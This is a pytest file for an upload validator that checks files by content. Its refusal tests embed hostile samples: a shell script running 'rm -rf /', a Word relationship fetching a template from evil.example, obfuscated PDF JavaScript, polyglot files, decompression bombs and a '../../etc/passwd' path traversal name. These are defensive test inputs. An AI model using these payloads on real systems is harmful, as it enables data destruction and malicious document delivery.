"""Which uploads are accepted, by their content whatever they are called."""

import io
import zipfile
from dataclasses import replace

import pytest

from hotline.kernel.errors import Invalid
from hotline.kernel.files.types import FileType
from hotline.kernel.files.uploads import DOCUMENTS, MEGABYTE, UploadPolicy, accepted, labels, plain_name
from tests import sample_files as files

POLICY = UploadPolicy(DOCUMENTS, max_bytes=2 * MEGABYTE, max_unpacked=20 * MEGABYTE)
DOCX = files.letter()
XLSX = files.workbook(("姓名", "金额"))
PNG, JPEG = files.image(), files.image("JPEG")
TEMPLATE = (
    b'<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships'
    b'/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "content", "type"),
    [
        ("照片.PNG", PNG, FileType.PNG),
        ("照片.jpeg", JPEG, FileType.JPEG),
        ("照片.webp", files.image("WEBP"), FileType.WEBP),
        ("照片.gif", files.image("GIF"), FileType.GIF),
        ("照片.bmp", files.image("BMP"), FileType.BMP),
        ("合同.pdf", files.PDF, FileType.PDF),
        ("合同.docx", DOCX, FileType.DOCX),
        ("工资表.xlsx", XLSX, FileType.XLSX),
        ("旧合同.doc", files.OLD_OFFICE + b"\x00" * 600, FileType.OLD_OFFICE),
        ("录音.wav", files.sound(), FileType.WAV),
        ("录音.mp3", b"ID3\x04" + b"\x00" * 20, FileType.MP3),
        ("录像.mp4", b"\x00\x00\x00\x18ftypmp42", FileType.MP4),
        ("说明.txt", "工资条拍照不清楚".encode(), FileType.TEXT),
        ("名单.csv", "姓名,金额\n张三,1".encode("utf-8-sig"), FileType.TEXT),
        ("说明.txt", "旧电脑存的".encode("gb18030"), FileType.TEXT),
    ],
)
def test_pictures_documents_sound_and_text_are_accepted(name: str, content: bytes, type: FileType) -> None:
    file = accepted(name, content, POLICY)
    assert (file.name, file.type, file.content) == (name, type, content)


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("空.txt", b"", "文件为空"),
        ("大.txt", b"a" * (2 * MEGABYTE + 1), "最多 2 MB"),
        ("程序.jpg", files.PROGRAM, "不支持此类文件"),
        ("网页.pdf", files.HTML, "不支持此类文件"),
        ("图.svg", files.SVG, "不支持此类文件"),
        ("图.png", files.SVG, "不支持此类文件"),
        ("脚本.txt", b"#!/bin/sh\nrm -rf /", "不支持此类文件"),
        ("压缩.zip", files.packed(readme=b"x"), "不支持此类文件"),
        ("照片.jpg", PNG, "文件名与内容不符：内容是 PNG"),
        ("没后缀", PNG, "不符"),
        ("合同.docx", files.with_macro(DOCX), "含宏"),
        ("合同.docx", files.with_renamed_macro(DOCX), "含宏"),
        ("工资表.xlsx", files.with_part(XLSX, "xl/macrosheets/sheet1.xml", b"<x/>"), "含宏"),
        ("旧表.xls", files.OLD_OFFICE + "_VBA_PROJECT".encode("utf-16-le"), "含宏"),
        ("旧表.xls", files.OLD_OFFICE + "EncryptedPackage".encode("utf-16-le"), "密码"),
        ("合同.docx", files.with_part(DOCX, "run.exe", files.PROGRAM), "含程序"),
        ("合同.docx", files.with_part(DOCX, "word/_rels/settings.xml.rels", TEMPLATE), "加载外部内容"),
        (
            "合同.docx",
            files.with_part(DOCX, "word/embeddings/o.bin", files.OLD_OFFICE + "Ole10Native".encode("utf-16-le")),
            "嵌入了其他文件",
        ),
        ("合同.pdf", b"%PDF-1.7 /OpenAction << /JavaScript (app.alert(1)) >> %%EOF", "PDF 含脚本"),
        ("合同.pdf", b"%PDF-1.7 << /S /J#61vaScript /JS 12 0 R >> %%EOF", "PDF 含脚本"),
        ("合同.pdf", b"%PDF-1.7 << /JS <6170702e> >> %%EOF", "PDF 含脚本"),
        ("合同.pdf", b"%PDF-1.7 /Names << /EmbeddedFiles 3 0 R >> %%EOF", "嵌入文件"),
        ("合同.pdf", b"%PDF-1.7 cut off", "不完整"),
        ("坏.png", PNG[:40], "无法打开"),
        ("炸弹.png", files.huge_image(), "图片过大"),
        ("炸弹.docx", files.bomb(DOCX), "解压后过大"),
        ("炸弹.docx", files.lying_bomb(DOCX), "无法打开"),
        ("两用.jpg", JPEG + files.packed(run=b"x"), "隐藏内容"),
        ("两用.png", files.image(text="%PDF-1.7"), "隐藏内容"),
        ("两用.gif", files.image("GIF") + b"<script>alert(1)</script>", "网页或脚本"),
        ("两用.docx", DOCX + b"#!/bin/sh\n", "隐藏内容"),
        ("坏.docx", b"PK\x03\x04 broken", "不支持此类文件"),
    ],
)
def test_what_could_run_or_is_not_what_it_seems_is_refused(name: str, content: bytes, reason: str) -> None:
    with pytest.raises(Invalid, match=reason) as refused:
        accepted(name, content, POLICY)
    assert refused.value.code == "file_refused"


def test_an_archive_inside_another_office_file_is_fine_and_a_locked_one_is_not() -> None:
    assert accepted("a.docx", files.with_part(DOCX, "word/embeddings/t.xlsx", XLSX), POLICY)
    locked = bytearray(XLSX)
    with zipfile.ZipFile(io.BytesIO(XLSX)) as book:
        start = book.start_dir
    locked[start + 8] |= 1
    with pytest.raises(Invalid, match="密码"):
        accepted("a.xlsx", bytes(locked), POLICY)


def test_a_place_limits_types_parts_and_says_what_it_accepts() -> None:
    policy = UploadPolicy(frozenset({FileType.PDF, FileType.XLSX}), MEGABYTE, code="not_a_sheet")
    with pytest.raises(Invalid, match="可上传：PDF、Excel。") as refused:
        accepted("a.png", PNG, policy)
    assert refused.value.code == "not_a_sheet"
    with pytest.raises(Invalid, match="解压后过大"):
        accepted("a.xlsx", XLSX, replace(policy, max_parts=3))
    assert accepted("whatever", XLSX, replace(policy, named=False)).type is FileType.XLSX
    assert labels(DOCUMENTS) == "图片、PDF、Word、Excel、PPT、录音、视频、文本"


def test_names_lose_folders_and_what_means_something_elsewhere() -> None:
    assert plain_name("../../etc/passwd") == "passwd"
    assert plain_name("C:\\我的\\合同<1>.pdf") == "合同1.pdf"
    assert plain_name('a"b\r\nc;.png') == "abc.png"
    assert plain_name("") == "附件"
    assert len(plain_name("长" * 500 + ".pdf")) == 124
